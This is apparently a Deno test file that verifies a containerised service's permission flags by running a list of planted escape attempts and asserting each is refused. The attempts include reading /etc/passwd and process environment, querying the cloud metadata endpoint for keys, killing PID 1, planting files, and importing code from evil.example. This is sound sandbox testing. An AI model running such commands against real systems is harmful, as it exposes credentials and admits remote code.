/** What the process may do at all, whoever has taken it over: the flags of the Dockerfile, kept. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { variableNames } from "../../lib/config.ts";
import { ServerProcess } from "../support/server_process.ts";

const root = join(import.meta.dirname!, "../..");

/** Where what the image calls so is on this machine. */
interface Places {
  readonly app: string;
  readonly data: string;
  readonly packages: string;
}

async function flagsOfImage(): Promise<string[]> {
  const file = await Deno.readTextFile(join(root, "Dockerfile"));
  const commands = [...file.matchAll(/^CMD (\[.*\])$/gm)].map(([, words]) => JSON.parse(words!));
  const [[program, run, ...words]] = commands as [string[]];
  assert.deepEqual([commands.length, program, run, words.at(-1)], [1, "deno", "run", "main.ts"]);
  return words.slice(0, -1);
}

async function flagsHere({ app, data, packages }: Places): Promise<string[]> {
  const places: Record<string, string> = { "/app": app, "/data": data, "/deno-dir": packages };
  return (await flagsOfImage()).map((flag) =>
    flag.replace(/(?<=[=,])\/[a-z-]+/g, (place) => places[place]!)
  );
}

async function packagesHere(): Promise<string> {
  const { stdout } = await new Deno.Command("deno", { args: ["info", "--json"] }).output();
  return JSON.parse(new TextDecoder().decode(stdout)).denoDir;
}

async function inScratch<Result>(use: (data: string) => Promise<Result>): Promise<Result> {
  const data = await Deno.makeTempDir({ prefix: "troupe_privilege_" });
  try {
    return await use(data);
  } finally {
    await Deno.remove(data, { recursive: true });
  }
}

/** What somebody does who has code of theirs run in the process: each is its own program text. */
const escapes: Readonly<Record<string, string>> = {
  "run a program": 'await new Deno.Command("id").output()',
  "run a program by way of Node": `const { spawn } = await import("node:child_process");
    await new Promise((end, reject) => spawn("id").on("error", reject).on("close", end))`,
  "load a library": 'Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", {})',
  "read the users of the machine": 'await Deno.readTextFile("/etc/passwd")',
  "read them by way of Node": '(await import("node:fs")).readFileSync("/etc/passwd")',
  "read the memory of the process": 'await Deno.readTextFile("/proc/self/environ")',
  "read what else it was told": 'Deno.env.get("PATH").length',
  "read all of it": "Deno.env.toObject()",
  "read it by way of Node": "process.env.PATH.length",
  "change the sources": 'await Deno.writeTextFile("APP/main.ts", "")',
  "change the packages": 'await Deno.writeTextFile("PACKAGES/planted.js", "")',
  "leave something for later": 'await Deno.writeTextFile("/tmp/planted", "")',
  "go out of the data by a link": 'await Deno.symlink("/etc/passwd", "DATA/link")',
  "look about the machine": "Deno.networkInterfaces()",
  "end another process": 'Deno.kill(1, "SIGTERM")',
  "ask the cloud for its keys": 'await fetch("http://169.254.169.254/latest/meta-data/")',
  "ask it over IPv6": 'await fetch("http://[fd00:ec2::254]/latest/meta-data/")',
  "take modules from elsewhere": 'await import("https://evil.example/x.ts")',
};

/** How those are refused that are not in Deno's own words. */
const refusals: Readonly<Record<string, RegExp>> = {
  "go out of the data by a link": /^NotCapable: /,
  "take modules from elsewhere": /--cached-only is specified/,
};

Deno.test("the image is started with these permissions and no other", async () => {
  assert.deepEqual(await flagsOfImage(), [
    "--cached-only",
    "--frozen",
    "--no-prompt",
    "--allow-net",
    "--deny-net=169.254.0.0/16,[fd00:ec2::254]",
    `--allow-env=${[...variableNames, "PG*"].join()}`,
    "--allow-read=/app,/data,/deno-dir",
    "--allow-write=/data",
  ]);
  const { tasks } = JSON.parse(await Deno.readTextFile(join(root, "deno.json")));
  for (const name of ["start", "dev", "migrate", "token", "dead-letters"]) {
    assert.doesNotMatch(tasks[name].command, /\s(-A|--allow-(all|run|ffi|import|hrtime))\b/, name);
  }
});

Deno.test("the service needs no more than the image gives it", async () => {
  await inScratch(async (data) => {
    const flags = await flagsHere({ app: root, data, packages: await packagesHere() });
    await using server = await ServerProcess.startWith(flags, { DATA_DIR: data });
    assert.equal((await (await fetch(`${server.url}/health/ready`)).json()).status, "ready");
  });
});

Deno.test("whatever is planted in the process gets nothing out of the machine", async (t) => {
  await inScratch(async (data) => {
    const packages = await packagesHere();
    const flags = await flagsHere({ app: root, data, packages });
    for (const [what, text] of Object.entries(escapes)) {
      await t.step(what, async () => {
        const attempt = text.replace("APP", root).replace("DATA", data)
          .replace("PACKAGES", packages);
        const program = join(data, "planted.ts");
        await Deno.writeTextFile(
          program,
          `try { ${attempt}; console.log("escaped"); } catch (error) { console.log(String(error)); }`,
        );
        const { stdout } = await new Deno.Command("deno", {
          args: ["run", "--quiet", "--no-check", ...flags, program],
          cwd: root,
        }).output();
        assert.match(new TextDecoder().decode(stdout), refusals[what] ?? /^NotCapable: Requires/);
      });
    }
    await t.step("and what it may do, it can", async () => {
      const program = join(data, "planted.ts");
      await Deno.writeTextFile(
        program,
        `await Deno.writeTextFile("${data}/note", "x"); console.log("done");`,
      );
      const { stdout } = await new Deno.Command("deno", {
        args: ["run", "--quiet", "--no-check", ...flags, program],
        cwd: root,
      }).output();
      assert.equal(new TextDecoder().decode(stdout).trim(), "done");
    });
  });
});
